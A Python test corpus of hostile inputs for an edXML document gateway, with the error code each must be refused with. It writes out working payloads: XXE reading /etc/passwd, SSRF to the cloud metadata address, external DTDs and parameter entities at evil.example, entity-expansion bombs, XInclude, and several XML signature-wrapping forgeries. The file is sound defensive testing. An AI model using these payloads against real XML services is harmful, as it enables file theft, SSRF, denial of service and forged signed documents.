"""The hostile-input corpus: documents an attacker (or a broken e-office system) might send to
``POST /v1/edxml``, each with the code it must be refused with.

Cases are built from a :class:`Kit` (a real transfer to G17, the development PKI, bad certificates)
so that every signed case is otherwise valid: the one thing wrong with it is what the case is about.
:data:`DUPLICATE` marks the replays, which must get the original receipt back instead.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta

import signxml
from lxml import etree

from gateway.domain.documents import BusinessDocType, StatusCode
from gateway.errors import ErrorCode
from schemas import edxml
from schemas.xml import tostring
from signing import KeyPair, XmlSigner

DS_NS = "http://www.w3.org/2000/09/xmldsig#"
DS = {"ds": DS_NS}
NS = edxml.NS
AGENCY = "000.00.00.G17"
OTHER = "000.00.00.G18"
GATEWAY = "000.00.00.G22"
DUPLICATE = "DUPLICATE"
"""Expected outcome of a replay: no error, the original receipt, no second effect."""


@dataclass
class Kit:
    """Everything the cases are built from (made once per test module)."""

    transfer_key: str
    other_transfer_key: str
    """A transfer to G18: G17 may not report on it."""
    now: datetime
    """Local (Asia/Ho_Chi_Minh) naive time for status timestamps."""
    agency: KeyPair
    other: KeyPair
    unbound: KeyPair
    expired: KeyPair
    not_yet_valid: KeyPair
    revoked_locally: KeyPair
    revoked_by_crl: KeyPair
    self_signed: KeyPair
    stranger: KeyPair
    unknown_agency: KeyPair
    weak_rsa: KeyPair
    """RSA-1024, issued by the trusted CA."""
    wrong_curve: KeyPair
    """EC on secp521r1, issued by the trusted CA."""
    wrong_key_type: KeyPair
    """An Ed25519 certificate, issued by the trusted CA."""
    ca_signer: KeyPair
    """A CA:TRUE certificate with UID=G17, issued by the trusted CA."""
    tls_only: KeyPair
    """A certificate whose extended key usage is TLS serverAuth only."""
    accepted: bytes
    """A status that was accepted once already (for the replays)."""
    accepted_root: etree._Element


@dataclass(frozen=True)
class Case:
    name: str
    attack: str
    build: Callable[[Kit], bytes]
    expected: str


# -- building blocks ---------------------------------------------------------------------------


def status(
    kit: Kit,
    *,
    sender: str = AGENCY,
    ref: str | None = None,
    to: str = GATEWAY,
    code: StatusCode = StatusCode.ARRIVED,
    description: str = "Đã đến",
    seconds: int = 0,
    at: datetime | None = None,
) -> etree._Element:
    return edxml.encode_status(
        edxml.StatusPackage(
            edxml.Organ(sender, organ_name="Bộ Xây dựng"),
            edxml.ResponseFor(to, document_id=ref or kit.transfer_key),
            code,
            at or kit.now.replace(second=seconds % 60),
            description=description,
        )
    )


def reply(kit: Kit, *, to: str = GATEWAY, answering: str = GATEWAY) -> etree._Element:
    return edxml.encode_edoc(
        edxml.Edoc(
            from_=edxml.Organ(AGENCY, organ_name="Bộ Xây dựng"),
            to=(edxml.Organ(to, organ_name="Nơi nhận"),),
            document_id=f"{AGENCY},{kit.now:%Y/%m/%d},77/TL-PAKN",
            code_number="77",
            code_notation="TL-PAKN",
            promulgation_place="Hà Nội",
            promulgation_date=kit.now.date(),
            document_type=edxml.DocumentType(type=1, type_detail=0, type_name="Công văn"),
            subject="Trả lời phản ánh, kiến nghị",
            content="Nội dung trả lời.",
            response_for=(edxml.ResponseFor(answering, document_id=kit.transfer_key),),
            trace=(edxml.TraceHeader(AGENCY, kit.now),),
            business=edxml.Business(BusinessDocType.NEW, reason="Văn bản trả lời"),
        )
    )


def sign(root: etree._Element, pair: KeyPair) -> bytes:
    return XmlSigner(pair).sign(root, edxml.header_of(root))


def signed_tree(
    kit: Kit, root: etree._Element | None = None, pair: KeyPair | None = None
) -> etree._Element:
    body = sign(root if root is not None else status(kit), pair or kit.agency)
    return etree.fromstring(body)


def out(root: etree._Element) -> bytes:
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def the_signature(root: etree._Element) -> etree._Element:
    return root.find(".//ds:Signature", DS)


def reference(root: etree._Element) -> etree._Element:
    return root.find(".//ds:SignedInfo/ds:Reference", DS)


def header(root: etree._Element) -> etree._Element:
    return root.find(f".//{{{NS}}}MessageHeader")


class _Sha1Signer(signxml.XMLSigner):
    def check_deprecated_methods(self) -> None:
        return None


def sha1_signed(kit: Kit, *, signature: str = "rsa-sha1", digest: str = "sha1") -> bytes:
    root = status(kit, description="SHA-1")
    etree.SubElement(
        edxml.header_of(root), f"{{{DS_NS}}}Signature", {"Id": "placeholder"}, nsmap={"ds": DS_NS}
    )
    signed = _Sha1Signer(
        method=signxml.SignatureConstructionMethod.enveloped,
        signature_algorithm=signature,
        digest_algorithm=digest,
        c14n_algorithm="http://www.w3.org/2001/10/xml-exc-c14n#",
    ).sign(root, key=kit.agency.private_key, cert=[kit.agency.certificate])
    return out(signed)


# -- XML-level attacks -------------------------------------------------------------------------

EDXML_OPEN = f'<edXML xmlns="{NS}">'.encode()


def _doctype(subset: str, body: str = "&x;") -> Callable[[Kit], bytes]:
    return lambda kit: (
        f'<?xml version="1.0"?><!DOCTYPE edXML [{subset}]>'.encode()
        + EDXML_OPEN
        + body.encode()
        + b"</edXML>"
    )


def _billion_laughs(kit: Kit) -> bytes:
    entities = ['<!ENTITY l0 "lol">'] + [
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return _doctype("".join(entities), "&l9;")(kit)


def _quadratic(kit: Kit) -> bytes:
    return _doctype(f'<!ENTITY a "{"a" * 50_000}">', "&a;" * 10_000)(kit)


def _deep(levels: int) -> Callable[[Kit], bytes]:
    return lambda kit: EDXML_OPEN + b"<a>" * levels + b"</a>" * levels + b"</edXML>"


def _oversize(kit: Kit) -> bytes:
    return sign(status(kit, description="x" * 1_100_000), kit.agency)


def _many_elements(kit: Kit) -> bytes:
    return EDXML_OPEN + b"<a/>" * 50_000 + b"</edXML>"


def _xinclude(kit: Kit) -> bytes:
    return (
        EDXML_OPEN + b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        b'href="file:///etc/passwd" parse="text"/></edXML>'
    )


def _pi_before_root(kit: Kit) -> bytes:
    body = sign(status(kit), kit.agency)
    return body.replace(b"?>", b'?><?xml-stylesheet href="http://evil.example/x.xsl"?>', 1)


def _pi_in_signed_text(kit: Kit) -> bytes:
    body = sign(status(kit), kit.agency)
    return body.replace(b"<edXML:Description>", b"<edXML:Description><?evil 06?>", 1)


def _invalid_utf8(kit: Kit) -> bytes:
    return sign(status(kit), kit.agency).replace("Đã đến".encode(), b"\xc3\x28\xff", 1)


def _utf16(kit: Kit) -> bytes:
    return sign(status(kit), kit.agency).decode().replace("UTF-8", "UTF-16").encode("utf-16")


def _latin1_declared(kit: Kit) -> bytes:
    return b'<?xml version="1.0" encoding="ISO-8859-1"?>' + EDXML_OPEN + b"</edXML>"


# -- signature attacks -------------------------------------------------------------------------


def _stripped(kit: Kit) -> bytes:
    root = signed_tree(kit)
    signature = the_signature(root)
    signature.getparent().remove(signature)
    return out(root)


def _foreign_namespace_signature(kit: Kit) -> bytes:
    return sign(status(kit), kit.agency).replace(DS_NS.encode(), b"urn:not-xmldsig")


def _tampered_status_code(kit: Kit) -> bytes:
    root = signed_tree(kit)
    header(root).find(f"{{{NS}}}StatusCode").text = StatusCode.FINISHED.value
    return out(root)


def _duplicated_signed_element(kit: Kit) -> bytes:
    """A forged MessageHeader placed before the signed one (readers taking the first win)."""
    root = signed_tree(kit)
    forged = copy.deepcopy(header(root))
    forged.find(f"{{{NS}}}StatusCode").text = StatusCode.FINISHED.value
    header(root).addprevious(forged)
    return out(root)


def _signed_content_moved_into_object(kit: Kit) -> bytes:
    """The original signed header hidden in a ds:Object; a forged one in its place."""
    root = signed_tree(kit)
    original = header(root)
    hidden = etree.SubElement(the_signature(root), f"{{{DS_NS}}}Object")
    hidden.append(copy.deepcopy(original))
    original.find(f"{{{NS}}}StatusCode").text = StatusCode.FINISHED.value
    return out(root)


def _signed_document_wrapped(kit: Kit) -> bytes:
    """The whole signed package moved under a new root that carries a forged one."""
    signed = signed_tree(kit)
    forged = status(kit, code=StatusCode.FINISHED)
    edxml.header_of(forged).append(signed)
    return out(forged)


def _extra_reference(kit: Kit) -> bytes:
    root = signed_tree(kit)
    extra = copy.deepcopy(reference(root))
    extra.set("URI", "#forged")
    reference(root).addnext(extra)
    return out(root)


def _id_reference_to_another_node(kit: Kit) -> bytes:
    """Reference to an element by Id — the classic wrapping target — instead of URI=""."""
    root = signed_tree(kit)
    header(root).set("Id", "h1")
    reference(root).set("URI", "#h1")
    return out(root)


def _signature_over_a_sibling(kit: Kit) -> bytes:
    """A signature over a signed sibling element (a valid DocumentId), with a forged status."""
    root = status(kit, code=StatusCode.FINISHED)
    sibling = etree.SubElement(edxml.header_of(root), f"{{{NS}}}Evidence", {"Id": "s"})
    sibling.text = "signed"
    signer = signxml.XMLSigner(
        method=signxml.SignatureConstructionMethod.detached,
        c14n_algorithm="http://www.w3.org/2001/10/xml-exc-c14n#",
    )
    signature = signer.sign(
        root, key=kit.agency.private_key, cert=[kit.agency.certificate], reference_uri="#s"
    )
    edxml.header_of(root).append(signature)
    return out(root)


def _external_reference(kit: Kit) -> bytes:
    root = signed_tree(kit)
    reference(root).set("URI", "http://evil.example/status.xml")
    return out(root)


def _comment_injection_changing_text(kit: Kit) -> bytes:
    """``06`` spliced into the signed StatusCode around a comment: the text read is changed."""
    body = sign(status(kit), kit.agency)
    return body.replace(b"<edXML:StatusCode>01<", b"<edXML:StatusCode>0<!---->6<", 1)


def _second_signature(kit: Kit) -> bytes:
    root = signed_tree(kit)
    other = signed_tree(kit, status(kit), kit.other)
    root.append(the_signature(other))
    return out(root)


def _enveloping(kit: Kit) -> bytes:
    signer = signxml.XMLSigner(method=signxml.SignatureConstructionMethod.enveloping)
    return out(signer.sign(status(kit), key=kit.agency.private_key, cert=[kit.agency.certificate]))


def _no_enveloped_transform(kit: Kit) -> bytes:
    root = signed_tree(kit)
    for transform in reference(root).findall("ds:Transforms/ds:Transform", DS):
        if transform.get("Algorithm", "").endswith("enveloped-signature"):
            transform.getparent().remove(transform)
    return out(root)


def _xslt_transform(kit: Kit) -> bytes:
    root = signed_tree(kit)
    transforms = reference(root).find("ds:Transforms", DS)
    etree.SubElement(
        transforms, f"{{{DS_NS}}}Transform", Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"
    )
    return out(root)


def _hmac(kit: Kit) -> bytes:
    root = signed_tree(kit)
    root.find(".//ds:SignatureMethod", DS).set(
        "Algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
    )
    return out(root)


def _garbage_signature_value(kit: Kit) -> bytes:
    root = signed_tree(kit)
    root.find(".//ds:SignatureValue", DS).text = "AAAA" * 64
    return out(root)


def _garbage_certificate(kit: Kit) -> bytes:
    root = signed_tree(kit)
    root.find(".//ds:X509Certificate", DS).text = "bm90IGEgY2VydGlmaWNhdGU="
    return out(root)


def _stuffed_keyinfo(kit: Kit) -> bytes:
    root = signed_tree(kit)
    data = root.find(".//ds:X509Data", DS)
    first = data.find("ds:X509Certificate", DS)
    for _ in range(40):
        data.append(copy.deepcopy(first))
    return out(root)


# -- certificate attacks -----------------------------------------------------------------------


def _key_not_matching_certificate(kit: Kit) -> bytes:
    return sign(status(kit), KeyPair(kit.other.private_key, kit.agency.certificate))


def _signed_with(attribute: str, **changes: object) -> Callable[[Kit], bytes]:
    return lambda kit: sign(status(kit, **changes), getattr(kit, attribute))  # type: ignore[arg-type]


def _replay_identical(kit: Kit) -> bytes:
    return kit.accepted


def _replay_resigned(kit: Kit) -> bytes:
    """The same (sender, DocumentId) with different bytes: a new description, signed again."""
    root = copy.deepcopy(kit.accepted_root)
    header(root).find(f"{{{NS}}}Description").text = "Lần gửi thứ hai"
    return sign(root, kit.agency)


def _schema_invalid(kit: Kit) -> bytes:
    root = status(kit)
    edxml.header_of(root)[0].append(root.makeelement(f"{{{NS}}}Surprise"))
    return sign(root, kit.agency)


def _reply_to_another_recipient(kit: Kit) -> bytes:
    return sign(reply(kit, to=OTHER), kit.agency)


def _stamped(at: Callable[[Kit], datetime]) -> Callable[[Kit], bytes]:
    """A status that is fine but for the time the agency claims."""
    return lambda kit: sign(status(kit, at=at(kit)), kit.agency)


def _malformed(kit: Kit) -> bytes:
    return EDXML_OPEN + b"<edXMLEnvelope><unclosed></edXML>"


CASES: tuple[Case, ...] = (
    # XML: entities, DTDs, size, nesting, constructs, encodings
    Case(
        "xxe-file",
        "external entity (file)",
        _doctype('<!ENTITY x SYSTEM "file:///etc/passwd">'),
        ErrorCode.XML_DTD_FORBIDDEN,
    ),
    Case(
        "xxe-network",
        "external entity (network)",
        _doctype('<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">'),
        ErrorCode.XML_DTD_FORBIDDEN,
    ),
    Case(
        "xxe-parameter-entity",
        "external parameter entity",
        _doctype('<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;', ""),
        ErrorCode.XML_DTD_FORBIDDEN,
    ),
    Case(
        "external-dtd",
        "external DTD subset",
        lambda kit: (
            b'<!DOCTYPE edXML SYSTEM "http://evil.example/edxml.dtd">' + EDXML_OPEN + b"</edXML>"
        ),
        ErrorCode.XML_DTD_FORBIDDEN,
    ),
    Case("billion-laughs", "entity expansion bomb", _billion_laughs, ErrorCode.XML_DTD_FORBIDDEN),
    Case("quadratic-blowup", "quadratic blow-up", _quadratic, ErrorCode.XML_DTD_FORBIDDEN),
    Case(
        "entity-without-doctype",
        "ENTITY declaration smuggled without DOCTYPE",
        lambda kit: EDXML_OPEN + b'<!ENTITY x "y"></edXML>',
        ErrorCode.XML_DTD_FORBIDDEN,
    ),
    Case("deep-nesting", "10 000 nested elements", _deep(10_000), ErrorCode.XML_TOO_DEEP),
    Case(
        "nesting-over-limit", "40 nested elements (over our 32)", _deep(40), ErrorCode.XML_TOO_DEEP
    ),
    Case("oversize", "a signed document over the size limit", _oversize, ErrorCode.XML_TOO_LARGE),
    Case("too-many-elements", "50 000 elements", _many_elements, ErrorCode.XML_TOO_LARGE),
    Case("xinclude", "XInclude of a local file", _xinclude, ErrorCode.XML_FORBIDDEN_CONSTRUCT),
    Case(
        "pi-before-root",
        "processing instruction (stylesheet) before the root",
        _pi_before_root,
        ErrorCode.XML_FORBIDDEN_CONSTRUCT,
    ),
    Case(
        "pi-in-signed-text",
        "processing instruction inside signed text",
        _pi_in_signed_text,
        ErrorCode.XML_FORBIDDEN_CONSTRUCT,
    ),
    Case("invalid-utf8", "invalid UTF-8 bytes", _invalid_utf8, ErrorCode.XML_ENCODING),
    Case("utf16", "UTF-16 document", _utf16, ErrorCode.XML_ENCODING),
    Case("latin1-declared", "ISO-8859-1 declared", _latin1_declared, ErrorCode.XML_ENCODING),
    Case("malformed", "not well-formed", _malformed, ErrorCode.XML_MALFORMED),
    Case("empty", "empty body", lambda kit: b"", ErrorCode.XML_MALFORMED),
    # signatures: stripped, tampered, wrapped
    Case("stripped-signature", "signature removed", _stripped, ErrorCode.SIGNATURE_MISSING),
    Case(
        "foreign-namespace-signature",
        "a <Signature> outside the XML-DSig namespace",
        _foreign_namespace_signature,
        ErrorCode.SIGNATURE_MISSING,
    ),
    Case(
        "tampered-status",
        "01 changed to 06 after signing",
        _tampered_status_code,
        ErrorCode.SIGNATURE_INVALID,
    ),
    Case(
        "wrap-duplicated-element",
        "signed element duplicated, forged copy first",
        _duplicated_signed_element,
        ErrorCode.SIGNATURE_INVALID,
    ),
    Case(
        "wrap-moved-into-object",
        "signed element moved into ds:Object, forged in its place",
        _signed_content_moved_into_object,
        ErrorCode.SIGNATURE_INVALID,
    ),
    Case(
        "wrap-whole-document",
        "signed document moved under a forged one",
        _signed_document_wrapped,
        ErrorCode.SIGNATURE_INVALID,
    ),
    Case(
        "wrap-extra-reference",
        "a second Reference",
        _extra_reference,
        ErrorCode.SIGNATURE_REFERENCE_INVALID,
    ),
    Case(
        "wrap-id-reference",
        "Id-based reference to one node",
        _id_reference_to_another_node,
        ErrorCode.SIGNATURE_REFERENCE_INVALID,
    ),
    Case(
        "wrap-signature-over-sibling",
        "valid signature over a sibling, forged status",
        _signature_over_a_sibling,
        ErrorCode.SIGNATURE_REFERENCE_INVALID,
    ),
    Case(
        "wrap-external-reference",
        "Reference to an external URI",
        _external_reference,
        ErrorCode.SIGNATURE_REFERENCE_INVALID,
    ),
    Case(
        "wrap-comment-injection",
        "comment spliced into signed text, text changed",
        _comment_injection_changing_text,
        ErrorCode.SIGNATURE_INVALID,
    ),
    Case(
        "wrap-second-signature",
        "a second signature by another agency",
        _second_signature,
        ErrorCode.SIGNATURE_REFERENCE_INVALID,
    ),
    Case(
        "wrap-enveloping",
        "enveloping signature (the status inside ds:Object)",
        _enveloping,
        ErrorCode.SIGNATURE_REFERENCE_INVALID,
    ),
    Case(
        "no-enveloped-transform",
        'URI="" without the enveloped transform',
        _no_enveloped_transform,
        ErrorCode.SIGNATURE_REFERENCE_INVALID,
    ),
    Case(
        "xslt-transform",
        "an XSLT transform",
        _xslt_transform,
        ErrorCode.SIGNATURE_ALGORITHM_REFUSED,
    ),
    Case(
        "hmac",
        "HMAC instead of a public-key signature",
        _hmac,
        ErrorCode.SIGNATURE_ALGORITHM_REFUSED,
    ),
    Case(
        "garbage-signature-value",
        "signature value replaced",
        _garbage_signature_value,
        ErrorCode.SIGNATURE_INVALID,
    ),
    Case(
        "garbage-certificate",
        "KeyInfo certificate is not X.509",
        _garbage_certificate,
        ErrorCode.SIGNATURE_INVALID,
    ),
    Case(
        "stuffed-keyinfo",
        "41 certificates in KeyInfo",
        _stuffed_keyinfo,
        ErrorCode.SIGNATURE_INVALID,
    ),
    Case(
        "sha1-not-legacy",
        "RSA-SHA1 from an agency not flagged legacy",
        sha1_signed,
        ErrorCode.SIGNATURE_ALGORITHM_REFUSED,
    ),
    Case(
        "sha1-digest-only",
        "RSA-SHA256 over a SHA-1 digest",
        lambda kit: sha1_signed(kit, signature="rsa-sha256"),
        ErrorCode.SIGNATURE_ALGORITHM_REFUSED,
    ),
    # certificates
    Case(
        "key-not-matching-certificate",
        "signed with G18's key, G17's certificate",
        _key_not_matching_certificate,
        ErrorCode.SIGNATURE_INVALID,
    ),
    Case(
        "self-signed",
        "self-signed certificate with UID=G17",
        _signed_with("self_signed"),
        ErrorCode.CERT_UNTRUSTED,
    ),
    Case(
        "stranger-ca",
        "certificate from a CA not in the trust store",
        _signed_with("stranger"),
        ErrorCode.CERT_UNTRUSTED,
    ),
    Case("expired", "expired certificate", _signed_with("expired"), ErrorCode.CERT_EXPIRED),
    Case(
        "not-yet-valid",
        "certificate not valid yet",
        _signed_with("not_yet_valid"),
        ErrorCode.CERT_NOT_YET_VALID,
    ),
    Case(
        "revoked-local",
        "certificate on the local revocation list",
        _signed_with("revoked_locally"),
        ErrorCode.CERT_REVOKED,
    ),
    Case(
        "revoked-crl",
        "certificate listed in a CRL from the CRL folder",
        _signed_with("revoked_by_crl"),
        ErrorCode.CERT_REVOKED,
    ),
    Case(
        "another-agencys-certificate",
        "From G17, signed by G18",
        _signed_with("other"),
        ErrorCode.CERT_ORGAN_MISMATCH,
    ),
    Case(
        "certificate-without-uid",
        "certificate bound to no agency",
        _signed_with("unbound"),
        ErrorCode.CERT_ORGAN_MISMATCH,
    ),
    # signer key and certificate policy
    Case(
        "rsa-1024",
        "a trusted certificate with an RSA-1024 key",
        _signed_with("weak_rsa"),
        ErrorCode.KEY_TOO_WEAK,
    ),
    Case(
        "ec-p521",
        "a trusted certificate on curve P-521",
        _signed_with("wrong_curve"),
        ErrorCode.KEY_CURVE_REFUSED,
    ),
    Case(
        "ed25519-certificate",
        "a trusted certificate with an Ed25519 key",
        _signed_with("wrong_key_type"),
        ErrorCode.KEY_TYPE_REFUSED,
    ),
    Case(
        "ca-signer",
        "a CA certificate (CA:TRUE) signing a document",
        _signed_with("ca_signer"),
        ErrorCode.CERT_CA_SIGNER,
    ),
    Case(
        "tls-server-certificate",
        "a certificate whose EKU is TLS serverAuth only",
        _signed_with("tls_only"),
        ErrorCode.CERT_USAGE_REFUSED,
    ),
    # addressing, references, replays
    Case(
        "wrong-recipient-reply",
        "a reply addressed to G18",
        _reply_to_another_recipient,
        ErrorCode.WRONG_RECIPIENT,
    ),
    Case(
        "wrong-recipient-reply-response-for",
        "a reply to us answering a document of G18",
        lambda kit: sign(reply(kit, answering=OTHER), kit.agency),
        ErrorCode.WRONG_RECIPIENT,
    ),
    Case(
        "wrong-recipient-status",
        "a status about a document of G18",
        lambda kit: sign(status(kit, to=OTHER), kit.agency),
        ErrorCode.WRONG_RECIPIENT,
    ),
    Case(
        "not-your-case",
        "G17 reports on G18's transfer",
        lambda kit: sign(status(kit, ref=kit.other_transfer_key), kit.agency),
        ErrorCode.NOT_YOUR_CASE,
    ),
    Case(
        "unknown-transfer",
        "a status about a transfer that does not exist",
        lambda kit: sign(status(kit, ref="000.00.00.G22,2026/01/01,999/VPCP-PAKN"), kit.agency),
        ErrorCode.UNKNOWN_DOCUMENT,
    ),
    Case(
        "unknown-agency",
        "validly signed by an agency that is not registered",
        _signed_with("unknown_agency", sender="000.00.00.G99"),
        ErrorCode.UNKNOWN_AGENCY,
    ),
    # agency clocks
    Case(
        "timestamp-year-1",
        "status stamped 0001/01/01 00:00:00 (before UTC can say)",
        _stamped(lambda kit: datetime(1, 1, 1)),
        ErrorCode.TIMESTAMP_INVALID,
    ),
    Case(
        "timestamp-year-9999",
        "status stamped 9999/12/31 23:59:59",
        _stamped(lambda kit: datetime(9999, 12, 31, 23, 59, 59)),
        ErrorCode.TIMESTAMP_INVALID,
    ),
    Case(
        "timestamp-2099",
        "status stamped in 2099 (would freeze the case)",
        _stamped(lambda kit: kit.now.replace(year=2099)),
        ErrorCode.TIMESTAMP_INVALID,
    ),
    Case(
        "timestamp-a-day-ahead",
        "status stamped a day after the gateway's clock",
        _stamped(lambda kit: kit.now + timedelta(days=1)),
        ErrorCode.TIMESTAMP_INVALID,
    ),
    Case(
        "timestamp-before-the-petition",
        "status stamped a day before the petition was received",
        _stamped(lambda kit: kit.now - timedelta(days=1)),
        ErrorCode.TIMESTAMP_INVALID,
    ),
    Case(
        "schema-invalid",
        "signed, but not a valid status package",
        _schema_invalid,
        ErrorCode.SCHEMA_INVALID,
    ),
    Case("replay-identical", "the same bytes again", _replay_identical, DUPLICATE),
    Case("replay-resigned", "the same DocumentId, different bytes", _replay_resigned, DUPLICATE),
)


def signed_status_for(kit: Kit) -> tuple[bytes, etree._Element]:
    root = status(kit, description="Đã đến lần đầu", seconds=30)
    return sign(root, kit.agency), root


__all__ = ["CASES", "DUPLICATE", "Case", "Kit", "signed_status_for", "tostring"]
